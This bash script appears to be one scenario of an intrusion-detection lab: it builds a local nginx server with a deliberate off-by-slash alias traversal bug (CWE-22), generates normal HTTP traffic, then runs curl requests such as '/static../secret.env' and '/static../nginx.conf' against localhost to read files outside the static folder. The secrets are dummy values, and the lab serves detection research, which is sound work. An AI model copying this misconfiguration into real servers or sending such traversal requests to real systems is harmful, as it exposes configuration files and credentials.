#!/usr/bin/env bash
# nginx-alias-traversal: nginx with the classic off-by-slash alias
# misconfiguration
#     location /static { alias /srv/chids-lab/nginx-alias-traversal/static/; }
# so /static../X resolves to .../static/../X and serves files one level
# above the alias folder: the server's config, a secrets file, its logs.
# Normal: a bounded HTTP client fetching pages and static files.
# Attack: curl requests for /static../secret.env, /static../nginx.conf, ...
set -euo pipefail
SCENARIO=nginx-alias-traversal
PORT=${PORT:-18081}
. "$(dirname "${BASH_SOURCE[0]}")/../lib.sh"
need /usr/sbin/nginx curl
SERVER_CMD=(/usr/sbin/nginx -p "$SRV" -c "$SRV/nginx.conf")
PAGES=(/ /index.html /about.html /news.html /static/app.css /static/app.js
	/static/logo.svg /static/data.json /missing.html /static/missing.png)

lab_setup() {
	rm -rf "$SRV"
	mkdir -p "$SRV"/{html,static,logs,tmp}
	cat >"$SRV/nginx.conf" <<-CONF
	daemon off;
	master_process on;
	worker_processes 1;
	user www-data;
	pid $SRV/tmp/nginx.pid;
	error_log $SRV/logs/error.log warn;
	events { worker_connections 64; }
	http {
	    access_log $SRV/logs/access.log;
	    client_body_temp_path $SRV/tmp/body;
	    proxy_temp_path $SRV/tmp/proxy;
	    fastcgi_temp_path $SRV/tmp/fastcgi;
	    uwsgi_temp_path $SRV/tmp/uwsgi;
	    scgi_temp_path $SRV/tmp/scgi;
	    types { text/html html; text/css css; application/javascript js;
	            image/svg+xml svg; application/json json; }
	    default_type application/octet-stream;
	    server {
	        listen 127.0.0.1:$PORT;
	        root $SRV/html;
	        # BUG (CWE-22): no trailing slash on the location, one on the alias
	        location /static { alias $SRV/static/; }
	    }
	}
	CONF
	for p in index about news; do
		printf '<!doctype html><html><head><title>%s</title><link rel="stylesheet" href="/static/app.css"></head><body><h1>%s</h1><p>%s</p><script src="/static/app.js"></script></body></html>\n' \
			"$p" "$p" "$(seq 1 60 | tr '\n' ' ')" >"$SRV/html/$p.html"
	done
	printf 'body { font-family: sans-serif; }\nh1 { color: #345; }\n' >"$SRV/static/app.css"
	printf 'document.title += " ok";\n' >"$SRV/static/app.js"
	printf '<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8"/>\n' >"$SRV/static/logo.svg"
	printf '{"items": [1, 2, 3]}\n' >"$SRV/static/data.json"
	# what the attacker is after: lab-only dummy values, not real secrets
	printf 'DB_USER=app\nDB_PASSWORD=lab-dummy-value\nAPI_TOKEN=lab-dummy-token\n' >"$SRV/secret.env"
	chmod 644 "$SRV/secret.env"
	chown -R www-data "$SRV/tmp" 2>/dev/null || true
}

lab_prepare() { : >"$SRV/logs/access.log"; : >"$SRV/logs/error.log"; }

# The container's periodic job: DNS lookups, package-cache reads, a hashed
# job file in /tmp, and log rotation (rename, USR1 to nginx, gzip).
lab_housekeeping() {
	common_housekeeping nginx-light "mv $SRV/logs/access.log $SRV/logs/access.log.1; kill -USR1 \$(cat $SRV/tmp/nginx.pid); sleep 0.2; gzip -f $SRV/logs/access.log.1"
}

lab_normal_load() {
	"$PY" "$LAB/load_http.py" --port "$PORT" --until "$REC_END" --max "$LOAD_MAX" \
		--pause 0.1 --seed "$RANDOM" "${PAGES[@]}"
}

lab_attack() {
	local u
	for u in /static../secret.env /static../nginx.conf /static../logs/access.log /static../html/index.html; do
		echo "GET $u"
		timeout 5 curl -s --path-as-is --max-time 3 "http://127.0.0.1:$PORT$u" | head -n 3
	done
}

lab_main
